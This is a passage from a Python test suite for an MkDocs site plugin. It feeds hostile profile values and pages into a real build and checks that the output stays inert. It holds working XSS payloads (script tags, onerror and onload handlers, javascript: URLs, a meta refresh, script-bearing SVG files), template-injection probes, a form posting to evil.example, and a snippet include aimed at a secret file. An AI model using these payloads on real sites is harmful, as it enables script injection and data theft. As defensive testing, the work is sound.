    assert errors(project) == [e[:4] for e in expected], [p.format() for p in project.problems]
    found = [p for p in project.problems if p.severity is Severity.ERROR]
    for problem, want in zip(found, expected, strict=True):
        phrase = want[4]
        assert phrase in problem.message and CJK.search(problem.message), problem.format()
    assert SLUG not in [b.slug for b in project.branches]
    assert "root:x" not in "".join(b.case_md for b in project.branches)


# --- accepted as plain text: no Norway problem, real leap day, BOM --------------------------------


ACCEPTED: list[tuple[str, str, Callable[[Profile], object], object]] = [
    ("name: 测试社区党委", "name: NO", lambda p: p.name, "NO"),
    ("  name: 测试品牌", "  name: yes", lambda p: p.brand.name, "yes"),
    ("name: 测试社区党委", "name: 测试社区党委\nshort_name: on", lambda p: p.short_name, "on"),
    ("  name: 测试品牌", "  name: 0700", lambda p: p.brand.name, "0700"),
    ("updated: 2024-10-25", "updated: 2024-02-29", lambda p: str(p.updated), "2024-02-29"),
    ("value: 1400", "value: １４００", lambda p: p.figures[0].value, 1400),
    ("value: 1400", "value: 0700", lambda p: p.figures[0].value, 700),
]


@pytest.mark.parametrize(
    ("old", "new", "get", "value"),
    [pytest.param(*a, id=a[1].split("\n")[-1].strip()) for a in ACCEPTED],
)
def test_yaml_scalars_stay_text(
    tmp_path: Path, old: str, new: str, get: Callable[[Profile], object], value: object
) -> None:
    root = scratch_root(tmp_path)
    add_branch(root, profile=profile_with(old, new))
    project = load_project(root)
    assert errors(project) == []
    assert get(project.branches[0].profile) == value


def test_slug_no_in_folder_no_is_text(tmp_path: Path) -> None:
    root = scratch_root(tmp_path)
    add_branch(root, "no", PROFILE.format(slug="no"))
    project = load_project(root)
    assert errors(project) == []
    assert [b.profile.slug for b in project.branches] == ["no"]


def test_bom_prefixed_profile_is_accepted(tmp_path: Path) -> None:
    root = scratch_root(tmp_path)
    add_branch(root, profile=b"\xef\xbb\xbf" + PROFILE.format(slug=SLUG).replace("\n", "\r\n").encode())
    project = load_project(root)
    assert errors(project) == []
    branch = project.branches[0]
    assert branch.profile.slug == SLUG
    assert branch.doc.pos(("slug",)).col == 7 and branch.doc.pos(("updated",)).line == 21


# --- known gaps, tracked -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "escaped",
    [
        pytest.param('"测试\\0图片说明"', id="nul-escape"),
        pytest.param('"测试\\x1b[31m图片说明"', id="esc-escape"),
        pytest.param('"测试\\u0007图片说明"', id="bell-escape"),
    ],
)
def test_escaped_control_characters_refused(tmp_path: Path, escaped: str) -> None:
    root = scratch_root(tmp_path)
    add_branch(root, profile=profile_with("caption: 测试图片说明", f"caption: {escaped}"))
    project = load_project(root)
    assert [e[:2] for e in errors(project)] == [(PROFILE_PATH, 16)]
    assert project.branches == []


@pytest.mark.parametrize(
    "char", [pytest.param("\x85", id="NEL"), pytest.param("\u2028", id="LINE-SEPARATOR")]
)
def test_unicode_line_break_in_value_reported_where_it_is(tmp_path: Path, char: str) -> None:
    root = scratch_root(tmp_path)
    add_branch(root, profile=profile_with("caption: 测试图片说明", f"caption: 测试{char}图片说明"))
    project = load_project(root)
    assert [(e[1], e[3]) for e in errors(project)] == [(16, "YAML_CHAR")]


def test_absurdly_long_number_refused(tmp_path: Path) -> None:
    root = scratch_root(tmp_path)
    add_branch(root, profile=profile_with("value: 1400", "value: " + "9" * 5000))
    project = load_project(root)
    assert errors(project)[:1] == [(PROFILE_PATH, 11, 12, "NUMBER")]
    assert project.branches == []


# =============================================================================================
# 3. Hostile strings in every profile field, through a real MkDocs build
# =============================================================================================

ONE = {
    "name": "<script>alert('name')</script>社区党委",
    "short_name": "<img src=x onerror=alert(3)>",
    "brand": "<svg onload=alert('brand')>",
    "slogan": "\"><iframe src=javascript:alert('slogan')>",
    "summary": "</title><script>alert('summary')</script>{{ 7*7 }}",
    "label": "<b onclick=alert(4)>党员",
    "unit": "<script>",
    "honor": "<a href=\"javascript:alert('honor')\">荣誉</a>",
    "honor_by": "<style>body{display:none}</style>",
    "caption": "<img src=x onerror=alert('caption')>说明",
    "credit": "<form action=//evil.example>",
    "alt": "\" onerror=\"alert('alt')",
    "source": "<script>alert('src')</script>",
    "page": '"><script>x</script>',
    "url": "https://example.org/\" onclick=\"alert('url')",
}
TWO = {
    "name": "</title><meta http-equiv=refresh content=0;url=javascript:1>",
    "brand": "{% raw %}{{ config }}",
    "summary": '" onmouseover="alert(\'desc\')" x="',
}
QUOTED_PHOTO = "photos/q\" onerror=\"alert('file').jpg"
HOSTILE_CASE = (
    CASE
    + """
<script>alert('case')</script>

[点我](http://example.org/"onmouseover="alert(1)) ![图](http://evil.example/x.png)

## &lt;img src=x onerror=alert('toc')&gt;

### 小节 {onclick=alert('attr')}

<div markdown="1">**粗** <svg onload=alert('mdhtml')></div>

--8<-- "secret.txt"

{{ 7*7 }}
"""
)


def q(value: str) -> str:
    """A YAML double-quoted scalar (JSON strings are valid YAML)."""
    return json.dumps(value, ensure_ascii=False)


def _hostile_profiles() -> dict[str, str]:
    one = f"""\
slug: xss-one
name: {q(ONE["name"])}
short_name: {q(ONE["short_name"])}
category: 社区
region: 呼和浩特市/回民区
brand:
  name: {q(ONE["brand"])}
  slogan: {q(ONE["slogan"])}
summary: {q(ONE["summary"])}
themes: [基层治理]
figures:
  - {{label: {q(ONE["label"])}, value: 1400, qualifier: 余, unit: {q(ONE["unit"])}}}
honors:
  - {{title: {q(ONE["honor"])}, by: {q(ONE["honor_by"])}, date: 2024-02-29}}
photos:
  - file: photos/a.jpg
    caption: {q(ONE["caption"])}
    credit: {q(ONE["credit"])}
    alt: {q(ONE["alt"])}
  - {{file: {q(QUOTED_PHOTO)}, caption: 引号文件名, credit: 示意图}}
  - {{file: photos/poly.jpg, caption: 伪装成图片的脚本, credit: 示意图}}
sources:
  - {{title: {q(ONE["source"])}, page: {q(ONE["page"])}, url: {q(ONE["url"])}}}
updated: 2024-10-25
"""
    two = f"""\
slug: xss-two
name: {q(TWO["name"])}
category: 社区
region: 呼和浩特市/回民区
brand:
  name: {q(TWO["brand"])}
  logo: logo.svg
summary: {q(TWO["summary"])}
themes: [基层治理]
updated: 2024-10-24
"""
    return {"xss-one": one, "xss-two": two}


def _own(case: str) -> str:
    """The same case with every paragraph made this branch's own (a paragraph copied from
    another branch is an error, and that branch would not be published)."""
    return "\n\n".join(b if b.startswith("#") or not b.strip() else f"乙组：{b}" for b in case.split("\n\n"))


def _scratch_site(root: Path) -> Path:
    """An organisation site whose mkdocs.yml turns on attr_list, md_in_html and snippets
    site-wide: none of them may reach branch content."""
    (root / "docs").mkdir(parents=True)
    (root / "docs" / "index.md").write_text("# 首页\n", "utf-8")
    (root / "secret.txt").write_text("TOP-SECRET-SNIPPET\n", "utf-8")
    (root / "mkdocs.yml").write_text(
        f"""
site_name: 测试站
theme: {{name: material, language: zh, font: false, features: [navigation.footer, content.action.edit]}}
repo_url: https://example.org/repo/
edit_uri: edit/main/docs/
docs_dir: docs
plugins: [showcase]
markdown_extensions:
  - attr_list
  - md_in_html
  - pymdownx.snippets:
      base_path: [{q(str(root))}]
""",
        "utf-8",
    )
    scratch_root(root)
    for slug, text in _hostile_profiles().items():
        folder = root / "branches" / slug
        (folder / "photos").mkdir(parents=True)
        (folder / "profile.yml").write_text(text, "utf-8")
        (folder / "case.md").write_text(HOSTILE_CASE if slug == "xss-one" else _own(HOSTILE_CASE), "utf-8")
        jpeg(folder / "photos" / "a.jpg")
    one = root / "branches" / "xss-one"
    jpeg(one / QUOTED_PHOTO)
    (one / "photos" / "poly.jpg").write_text("<svg onload=alert('poly')></svg>", "utf-8")
    (root / "branches" / "xss-two" / "logo.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'logo\')"><script>alert(1)</script></svg>',
        "utf-8",
    )
    return root


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> BuiltSite:
    root = _scratch_site(tmp_path_factory.mktemp("hostile") / "org")
    site = build_site(root / "mkdocs.yml", root / "site", strict=False)
    for slug in ("xss-one", "xss-two"):  # hostile but valid: both must be published
        assert (site.dir / "branches" / slug / "index.html").is_file(), site.warnings
    return site


class _Page(HTMLParser):
    """A built page: elements, visible text (scripts excluded), the <title> and script bodies."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.chunks: list[str] = []
        self.scripts: list[str] = []
        self.title = ""
        self._open = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._open = tag

    def handle_endtag(self, tag: str) -> None:
        self._open = ""

    def handle_data(self, data: str) -> None:
        if self._open == "script":
            self.scripts.append(data)
        elif self._open == "title":
            self.title += data
        else:
            self.chunks.append(data)

    @property
    def text(self) -> str:
        return "".join(self.chunks)


def parse_page(markup: str) -> _Page:
    page = _Page()
    page.feed(markup)
    page.close()
    return page


def executable_bits(markup: str) -> list[str]:
    """Everything in a built page that could run: [] when the page is inert."""
    found: list[str] = []
    page = parse_page(markup)
    for tag, attrs in page.elements:
        found += [f"{tag}[{a}]" for a in attrs if a.startswith("on")]
        found += [f"{tag}[{a}={v}]" for a, v in attrs.items() if a != "content" and _bad_url(v)]
        if tag in {"iframe", "object", "embed", "base", "style", "frame", "frameset"}:
            found.append(tag)
        if tag == "meta" and attrs.get("http-equiv"):
            found.append(f"meta[http-equiv={attrs['http-equiv']}]")
        if tag == "script" and (src := attrs.get("src")) and ("//" in src or ":" in src):
            found.append(f"script[src={src}]")
        if tag == "img" and (src := attrs.get("src") or "") and (":" in src or src.startswith("/")):
            found.append(f"img[src={src}]")
    found += [f"inline script: {s[:60]}" for s in page.scripts if "alert" in s]
    # In the generated part of the page (after Material's own edit button), nothing but markup.
    start = markup.find('class="sc-', markup.find("<article"))  # the header's search box comes earlier
    assert start != -1, "no generated content on the page"
    content = parse_page(markup[start : markup.rindex("</article>")])
    for tag, _attrs in content.elements:
        if tag in {"script", "svg", "form", "input", "button", "textarea", "math", "link", "meta"}:
            found.append(f"content <{tag}>")
    return found


PAGES = [
    "branches/xss-one/",
    "branches/xss-two/",
    "brands/",
    "categories/社区/",
    "themes/基层治理/",
    "regions/呼和浩特市/",
    "regions/呼和浩特市/回民区/",
    "",
]


@pytest.mark.parametrize("url", PAGES, ids=lambda u: u or "home")
def test_built_page_is_inert(hostile_site: BuiltSite, url: str) -> None:
    markup = hostile_site.page(url)
    assert executable_bits(markup) == []
    assert "TOP-SECRET-SNIPPET" not in markup and ">49<" not in markup


# (page, hostile string that must be visible there as text)
SHOWN_AS_TEXT = [
    ("branches/xss-one/", ONE["name"]),
    ("branches/xss-one/", ONE["brand"]),
    ("branches/xss-one/", ONE["slogan"]),
    ("branches/xss-one/", ONE["summary"]),
    ("branches/xss-one/", ONE["label"]),
    ("branches/xss-one/", "1400余" + ONE["unit"]),
    ("branches/xss-one/", ONE["honor"]),
    ("branches/xss-one/", ONE["honor_by"]),
    ("branches/xss-one/", ONE["caption"]),
    ("branches/xss-one/", f"■ {ONE['credit']} 摄"),
    ("branches/xss-one/", ONE["source"]),
    ("branches/xss-one/", ONE["page"]),
    ("branches/xss-one/", "<script>alert('case')</script>"),
    ("branches/xss-one/", "{{ 7*7 }}"),
    ("branches/xss-one/", "<img src=x onerror=alert('toc')>"),  # heading text and its sidebar TOC entry
    ("branches/xss-two/", TWO["name"]),
    ("branches/xss-two/", TWO["brand"]),
    ("branches/xss-two/", TWO["summary"]),
    ("brands/", ONE["brand"]),
    ("brands/", ONE["short_name"]),
    ("brands/", TWO["name"]),
    ("categories/社区/", ONE["summary"]),
    ("categories/社区/", ONE["slogan"]),
    ("themes/基层治理/", TWO["summary"]),
    ("regions/呼和浩特市/回民区/", ONE["short_name"]),
    ("", ONE["brand"]),
]


@pytest.mark.parametrize(
    ("url", "raw"), [pytest.param(u, r, id=f"{u or 'home'}:{r[:24]}") for u, r in SHOWN_AS_TEXT]
)
def test_hostile_string_shown_as_text(hostile_site: BuiltSite, url: str, raw: str) -> None:
    assert raw in parse_page(hostile_site.page(url)).text


def test_toc_sidebar_lists_escaped_heading(hostile_site: BuiltSite) -> None:
    markup = hostile_site.page("branches/xss-one/")
    toc = markup[markup.index("md-nav--secondary") : markup.index('data-md-component="content"')]
    assert "&lt;img src=x onerror=alert('toc')&gt;" in toc
    parsed = parse_page(toc)
    assert {tag for tag, _ in parsed.elements} <= {"label", "span", "ul", "li", "a", "nav"}
    assert [a for _, attrs in parsed.elements for a in attrs if a.startswith("on")] == []
    assert "小节 {onclick=alert('attr')}" in parsed.text


@pytest.mark.parametrize(
    ("url", "title", "description"),
    [
        pytest.param(
            "branches/xss-one/", f"{ONE['brand']} · {ONE['short_name']} - 测试站", ONE["summary"], id="one"
        ),
        pytest.param(
            "branches/xss-two/", f"{TWO['brand']} · {TWO['name']} - 测试站", TWO["summary"], id="two"
        ),
    ],
)
def test_title_and_meta_description_hold_text(
    hostile_site: BuiltSite, url: str, title: str, description: str
) -> None:
    page = parse_page(hostile_site.page(url))
    assert page.title == title
    metas = [a for t, a in page.elements if t == "meta" and a.get("name") == "description"]
    assert metas == [{"name": "description", "content": description}]
    assert [t for t, _ in page.elements].count("title") == 1


def test_attribute_values_stay_inside_their_attribute(hostile_site: BuiltSite) -> None:
    page = parse_page(hostile_site.page("branches/xss-one/"))
    imgs = [a for t, a in page.elements if t == "img"]
    assert [a.get("alt") for a in imgs] == [ONE["alt"], "引号文件名"]
    # Photos are published under their content hash: the hostile file name is not in the URL.
    assert re.fullmatch(r"\.\./\.\./media/[0-9a-f]{2}/[0-9a-f]{32}-800\.jpg", imgs[1]["src"]), imgs[1]

    source_links = [
        a for t, a in page.elements if t == "a" and a.get("rel") == "noopener noreferrer nofollow"
    ]
    assert [a["href"] for a in source_links if (a.get("href") or "").startswith("https://example.org/")] == [
        ONE["url"]
    ]


def test_hostile_image_files_are_not_published(hostile_site: BuiltSite) -> None:
    """An SVG logo with script and a 'photo' that is really SVG text: reported at their line
    in profile.yml, left out; the pages themselves are still published."""
    warned = [w for w in hostile_site.warnings if "PHOTO_FORMAT" in w]
    assert len(warned) == 2, hostile_site.warnings
    assert any(w.startswith("showcase: branches/xss-one/profile.yml:") for w in warned), warned
    assert any(w.startswith("showcase: branches/xss-two/profile.yml:") for w in warned), warned
    assert not (hostile_site.dir / "branches" / "xss-two" / "logo.svg").exists()
    assert not (hostile_site.dir / "branches" / "xss-one" / "photos").exists()
    published = [p.name for p in (hostile_site.dir / "media").rglob("*") if p.is_file()]
    assert published and all(re.fullmatch(r"[0-9a-f]{32}-\d+\.(webp|jpg)", n) for n in published), published
    two = parse_page(hostile_site.page("branches/xss-two/"))
    assert [t for t, _ in two.elements].count("img") == 0
    assert "{%" in two.text  # the monogram is cut from the brand name, as text
